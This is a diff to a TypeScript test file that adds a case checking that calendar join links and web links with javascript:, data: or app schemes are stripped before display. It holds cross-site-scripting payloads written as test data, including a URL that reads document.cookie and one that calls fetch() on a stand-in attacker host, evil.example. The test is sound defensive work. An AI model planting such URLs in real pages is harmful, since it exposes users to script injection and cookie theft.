@@ -371,6 +371,31 @@ const cases: Case[] = [
     signals: ["zoom-link"],
   },
   {
+    name: "a join link or web link that is not http(s) never reaches the page (javascript:, data:, app schemes)",
+    microsoft: [
+      graphEvent({
+        onlineMeetingUrl: "javascript:alert(document.cookie)",
+        webLink: " JavaScript:fetch('//evil.example')",
+      }),
+    ],
+    google: [
+      googleEvent({
+        id: "g-unsafe",
+        iCalUID: "unsafe-google@example.com",
+        hangoutLink: "data:text/html,<script>alert(1)</script>",
+        htmlLink: "zoommtg://zoom.us/join?confno=1",
+      }),
+    ],
+    // Same time, title and organizer: one event with both copies.
+    check: (result) => {
+      expect(result.events[0]?.sources).toHaveLength(2);
+      for (const event of result.events) {
+        expect(event.online?.url).toBeUndefined();
+        for (const source of event.sources) expect(source.webLink).toBeUndefined();
+      }
+    },
+  },
+  {
     name: "Webex link as Graph's onlineMeetingUrl",
     microsoft: [graphEvent({ onlineMeetingUrl: "https://acme.webex.com/meet/dana" })],
     event: { class: "online", online: { url: "https://acme.webex.com/meet/dana", provider: "webex" } },
